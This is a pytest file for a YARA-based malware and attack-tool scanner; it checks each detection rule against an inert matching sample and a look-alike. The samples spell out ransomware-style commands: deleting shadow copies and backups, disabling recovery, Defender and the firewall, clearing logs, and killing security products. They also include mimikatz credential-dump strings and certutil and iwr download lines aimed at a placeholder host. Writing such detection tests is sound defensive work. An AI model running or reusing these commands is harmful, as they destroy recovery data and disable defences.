"""One hit and one miss per rule: inert bytes made here, never a real program."""

import base64
from pathlib import Path

import pytest

from toolkit.scan.content import Content
from toolkit.scan.rules import match
from toolkit.scan.signatures import CONTROL_RULE, Signatures, compiled, data_files
from toolkit.texts import LANGUAGES, Speech

FOLDER = Path(__file__).resolve().parents[2] / "signatures"
RULES = compiled({path: (FOLDER / path).read_bytes() for path in data_files(FOLDER)})
SET = Signatures(FOLDER, "", RULES, (), {})
NOT_A_PROGRAM = b"MZ is how some letters begin.\n"
CODED = base64.b64encode("Write-Output 'inert'; ".encode("utf-16-le") * 10).decode()
WHOLE = base64.b64encode(bytes.fromhex("4d5a90000300000004000000ffff0000") + bytes(300)).decode()
OLD_OFFICE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(512)
SHORTCUT = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)
EMBEDDED = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")


def program(*texts: str | bytes, wide: bool = False) -> bytes:
    """Return the first bytes of a program, then these texts, each ended by a zero."""
    header = b"MZ" + bytes(0x3A) + b"\x80\0\0\0" + bytes(0x40) + b"PE\0\0" + bytes(0x400)
    coded = [
        text if isinstance(text, bytes) else text.encode("utf-16-le" if wide else "cp1252") for text in texts
    ]
    return header + b"\0\0\0".join([b"", *coded, b""])


def script(*lines: str) -> bytes:
    return "\r\n".join([*lines, ""]).encode("cp1252")


def vss(tail: str) -> str:
    return "vssadmin delete shadows " + tail


SERVICES = (
    "AcrSch2Svc",
    "CAARCUpdateSvc",
    "GxVss",
    "QBIDPService",
    "VeeamTransportSvc",
    "PDVFSService",
    "stc_raw_agent",
    "YooBackup",
)
PROGRAMS = (
    "agntsvc",
    "dbsnmp",
    "encsvc",
    "isqlplussvc",
    "mydesktopqos",
    "ocautoupds",
    "xfssvccon",
    "thebat",
)
GUARDS = (
    "MsMpEng.exe",
    "SentinelAgent.exe",
    "CSFalconService.exe",
    "SophosFS.exe",
    "SEDService.exe",
    "ekrn.exe",
    "bdservicehost.exe",
    "avgsvc.exe",
    "AvastSvc.exe",
    "MBAMService.exe",
    "ccSvcHst.exe",
    "TerminateProcess",
    "DeviceIoControl",
)
STOPS = [
    f"net stop {name} /y" for name in ("MSSQLSERVER", "SQLWriter", "VeeamNFSSvc", "BackupExecRPCService")
]
STOPS += [f"taskkill /f /im {name}.exe" for name in ("sqlservr", "outlook", "winword", "excel")]
FETCHES = 'CreateObject("MSXML2.XMLHTTP")', 'CreateObject("ADODB.Stream")', ".SaveToFile"
ENCRYPTING = script(
    "$aes = [System.Security.Cryptography.Aes]::Create()",
    "$files = Get-ChildItem C:\\none -Recurse",
    "$coder = $aes.CreateEncryptor()",
    "[IO.File]::WriteAllBytes($a, $b)",
    "Remove-Item $file",
)

# By rule: what it must match, then what it must not.
SAMPLES: dict[str, tuple[bytes, bytes]] = {
    "Trousse_Demo_Harmless_Program": (
        program("TROUSSE-DEMO-HARMLESS-PROGRAM"),
        b"TROUSSE-DEMO-HARMLESS-PROGRAM in a text",
    ),
    "Trousse_Program_Deletes_Shadow_Copies": (
        program("cmd.exe /c " + vss("/all /quiet"), wide=True),
        program(vss("/for=C: [/oldest | /all]"), vss("/For=<volume> /Oldest")),
    ),
    "Trousse_Program_Disables_Recovery": (
        program("bcdedit /set {default} recoveryenabled no"),
        program("recoveryenabled", "bootstatuspolicy", "ignoreallfailures"),
    ),
    "Trousse_Program_Deletes_Backups": (
        program("wbadmin delete catalog -quiet"),
        program("WBADMIN DELETE CATALOG [-quiet]", "WBADMIN DELETE SYSTEMSTATEBACKUP -keepVersions:10"),
    ),
    "Trousse_Program_Stops_Services": (program(*SERVICES), program("VeeamTransportSvc", "VeeamNFSSvc")),
    "Trousse_Program_Ends_Programs": (program(*PROGRAMS, wide=True), program("thebat", "ocssd")),
    "Trousse_Program_Clears_Logs": (
        program("wevtutil cl security", "wevtutil.exe cl System"),
        program("wevtutil cl Application /bu:C:\\backup.evtx"),
    ),
    "Trousse_Program_Disables_Defender": (
        program("powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        program("Set-MpPreference -DisableRealtimeMonitoring $false", "Get-MpPreference"),
    ),
    "Trousse_Program_Holds_Ransom_Demand": (
        program("All your files have been encrypted!", "Pay us in bitcoin", "Do not rename files", wide=True),
        program("Your files have been encrypted with BitLocker. Keep your decryption key."),
    ),
    "Trousse_Program_Packed_Upx": (
        program()[:0x100] + b"UPX0\0\0\0\0" + bytes(32) + b"UPX1\0\0\0\0" + bytes(64),
        program(bytes(2000), b"UPX0\0\0\0\0UPX1\0\0\0\0"),
    ),
    "Trousse_Program_Packed_Protector": (program()[:0x100] + b".themida" + bytes(64), program("themida")),
    "Trousse_Program_Locker_Build_Path": (
        program(b"RSDS" + bytes(20) + b"D:\\work\\Release\\encryptor_x64.pdb"),
        program(b"RSDS" + bytes(20) + b"D:\\work\\Release\\AppLocker.pdb"),
    ),
    "Trousse_Program_Reflective_Loader": (
        program(b"\0ReflectiveLoader\0"),
        program("A ReflectiveLoader is known"),
    ),
    "Trousse_Program_Remote_Beacon": (
        program("could not create remote thread in %d: %d", "could not spawn %s (token): %d"),
        program("could not create remote thread in %d: %d"),
    ),
    "Trousse_Program_Runs_Hidden_Powershell": (
        program(
            "powershell -w hidden -enc " + base64.b64encode("$a='inert';".encode("utf-16-le") * 4).decode()
        ),
        program("powershell -File backup.ps1 -encoding utf8"),
    ),
    "Trousse_Tool_Anydesk": (program("AnyDesk Software GmbH", wide=True), program("Like AnyDesk")),
    "Trousse_Tool_Teamviewer": (
        program("TeamViewer Germany GmbH", "TeamViewer", wide=True),
        program("Close TeamViewer first", wide=True),
    ),
    "Trousse_Tool_Screenconnect": (
        program("ScreenConnect.ClientService", "ScreenConnect.WindowsClient"),
        program("ScreenConnect"),
    ),
    "Trousse_Tool_Managed_Access": (program("Splashtop Inc.", wide=True), program("MeshAgent")),
    "Trousse_Tool_Open_Remote_Desktop": (program("Purslane Ltd", wide=True), program("VNC Viewer")),
    "Trousse_Tool_Tunnel": (
        b"\x7fELF" + bytes(60) + b"github.com/jpillora/chisel/share",
        b"github.com/fatedier/frp",
    ),
    "Trousse_Tool_Psexec_Service": (
        program("PSEXESVC", "Sysinternals", wide=True),
        program("PSEXESVC", "Sysinternals", "PsExec executes a program on a remote system", wide=True),
    ),
    "Trousse_Tool_Remote_Execution": (
        program("PsExec executes a program on a remote system"),
        program("PSEXESVC", "Sysinternals"),
    ),
    "Trousse_Tool_Rclone": (
        program("github.com/rclone/rclone/fs", "github.com/rclone/rclone/cmd"),
        program("see rclone.org"),
    ),
    "Trousse_Tool_Rclone_Settings": (
        b"[vol]\ntype = mega\nuser = a@exemple.example\npass = abcdefgh1234\n",
        b"[vol]\ntype = local\nnounc = true\n",
    ),
    "Trousse_Tool_Mega": (program("Mega Limited", "MEGAsync", wide=True), program("MEGAsync")),
    "Trousse_Tool_Winscp": (program("WinSCP", "Martin Prikryl", wide=True), program("WinSCP")),
    "Trousse_Tool_Winscp_Settings": (
        script("[Configuration\\Interface]", "a=1", "[Sessions\\a@b]", "HostName=serveur.example"),
        script("[Configuration\\Interface]", "a=1"),
    ),
    "Trousse_Tool_Filezilla_Settings": (
        b'<?xml version="1.0"?>\n<FileZilla3><RecentServers><Server><Host>serveur.example</Host>',
        b'<?xml version="1.0"?>\n<FileZilla3><Settings/>',
    ),
    "Trousse_Tool_Password_Theft": (
        program("sekurlsa::logonpasswords", "lsadump::sam", wide=True),
        program("Detects mimikatz"),
    ),
    "Trousse_Tool_Saved_Passwords": (program("NirSoft", "WebBrowserPassView", wide=True), program("NirSoft")),
    "Trousse_Tool_Network_Survey": (
        program("Advanced IP Scanner", "Famatech Corp.", wide=True),
        program("Advanced IP Scanner"),
    ),
    "Trousse_Tool_Directory_Survey": (program("AdFind V01.62", "joe@joeware.net"), program("BloodHound")),
    "Trousse_Tool_Protection_Killer": (
        program("ProcessHacker", "KProcessHacker", wide=True),
        program("ProcessHacker", wide=True),
    ),
    "Trousse_Tool_Kills_Many_Protections": (program(*GUARDS), program(*GUARDS[:4], *GUARDS[-2:])),
    "Trousse_Script_Destroys_Recovery": (
        script("@echo off", "rem maj", vss("/all /quiet")),
        script(
            "Attackers often run these:",
            "",
            "```",
            vss("/all /quiet"),
            "wbadmin delete catalog -quiet",
            "```",
        ),
    ),
    "Trousse_Script_Stops_Services": (script("@echo off", *STOPS), script("@echo off", *STOPS[:3])),
    "Trousse_Script_Disables_Protection": (
        script("@echo off", "netsh advfirewall set allprofiles state off"),
        script("To test, never run netsh advfirewall set allprofiles state off on a server."),
    ),
    "Trousse_Script_Clears_Logs": (
        script("wevtutil cl Security", "wevtutil cl System"),
        script("wevtutil cl Application /bu:a.evtx"),
    ),
    "Trousse_Script_Coded_Command": (
        script("@echo off", "powershell.exe -w hidden -enc " + CODED),
        script("The option -enc of powershell takes base64: powershell -enc SQBFAFgA"),
    ),
    "Trousse_Script_Downloads_And_Runs": (
        script("certutil -urlcache -split -f http://serveur.example/a.exe a.exe"),
        script("<p>", "certutil -urlcache -f http://serveur.example/a.exe", "</p>"),
    ),
    "Trousse_Script_Host_Runs_Attack": (
        script('Set s = CreateObject("WScript.Shell")', f's.Run "cmd /c {vss("/all")}", 0'),
        script('Set s = CreateObject("WScript.Shell")', 's.Run "notepad.exe"'),
    ),
    "Trousse_Script_Encrypts_Folders": (ENCRYPTING, ENCRYPTING.replace(b"-Recurse", b"")),
    "Trousse_Script_Carries_Program": (
        script(f"$b = [Convert]::FromBase64String('{WHOLE}')"),
        script("$b = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA')"),
    ),
    "Trousse_Shortcut_Runs_Command": (
        SHORTCUT + "powershell.exe -w hidden iwr http://serveur.example/a".encode("utf-16-le"),
        SHORTCUT + "C:\\Program Files\\Cabinet\\agenda.exe".encode("utf-16-le"),
    ),
    "Trousse_Shortcut_Oversized": (SHORTCUT + bytes(600_000), SHORTCUT + bytes(4000)),
    "Trousse_Hta_Runs_Command": (
        b'<html><hta:application><script>new ActiveXObject("WScript.Shell").Run("cmd /c rem")</script>',
        b'<html><hta:application id="a"><script>window.resizeTo(1,1)</script><p>Pay</p>',
    ),
    "Trousse_Macro_Runs_Command": (
        OLD_OFFICE + b"\x01Attribut\x00e VB_Name\x00 Sub AutoOpen() WScript.Shell",
        OLD_OFFICE + b"\x01Attribut\x00e VB_Name\x00 Sub Total()",
    ),
    "Trousse_Rtf_Opens_Object": (
        b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}",
        b"{\\rtf1{\\object{\\*\\objdata 0105}}}",
    ),
    "Trousse_Onenote_Carries_Program": (
        ONENOTE + EMBEDDED + bytes(20) + b"@echo off\r\nrem",
        ONENOTE + bytes(20) + b"@echo off\r\nrem",
    ),
}


def names(data: bytes) -> tuple[str, ...]:
    hits = match(Content.of(data), SET)
    assert hits.errors == ()
    return hits.names


@pytest.mark.parametrize("rule", SAMPLES)
def test_a_rule_hits_what_it_is_for(rule: str) -> None:
    assert rule in names(SAMPLES[rule][0])


@pytest.mark.parametrize("rule", SAMPLES)
def test_a_rule_misses_what_only_resembles(rule: str) -> None:
    assert rule not in names(SAMPLES[rule][1])


@pytest.mark.parametrize("rule", [name for name in SAMPLES if "_Program_" in name])
def test_a_rule_about_programs_misses_the_same_words_in_a_text(rule: str) -> None:
    text = SAMPLES[rule][0][2:].replace(b"\0", b" ")
    assert rule not in names(NOT_A_PROGRAM + text)


def test_every_rule_but_the_control_has_its_samples() -> None:
    assert {rule.identifier for rule in RULES} - {CONTROL_RULE} == set(SAMPLES)


def test_every_rule_says_what_it_is() -> None:
    for rule in RULES:
        assert rule.meta["author"] == "Trousse"
        assert rule.meta["kind"] in {"malware", "tool", "script", "demo", "control"}
        assert rule.meta["severity"] in {"high", "medium", "low"}
        assert rule.meta["description"]
        assert len(rule.meta["date"]) == 10
        assert rule.meta["reference"] or rule.meta["kind"] in {"demo", "control"}


def test_no_rule_slows_the_others() -> None:
    import yara

    for path in data_files(FOLDER):
        if path.endswith(".yar"):
            yara.compile(source=(FOLDER / path).read_text("utf-8"), includes=False, error_on_warning=True)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp850"])
def test_a_script_is_read_in_the_encodings_windows_runs(encoding: str) -> None:
    text = f"@echo off\r\nrem mise à jour\r\n{vss('/all /quiet')}\r\n"
    assert "Trousse_Script_Destroys_Recovery" in names(text.encode(encoding))


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_rule_has_its_sentence(language: str) -> None:
    speech = Speech(language)
    for rule in SAMPLES:
        assert speech.say(f"scan.rule_{rule}")


def test_our_own_files_are_not_taken_for_a_threat() -> None:
    for path in (*FOLDER.rglob("*.yar"), Path(__file__)):
        assert names(path.read_bytes()) == ()


def test_the_launchers_of_python_packages_are_not_taken_for_a_threat() -> None:
    import setuptools

    launchers = sorted(Path(setuptools.__file__).parent.glob("*.exe"))
    assert launchers
    for path in launchers:
        assert names(path.read_bytes()) == ()
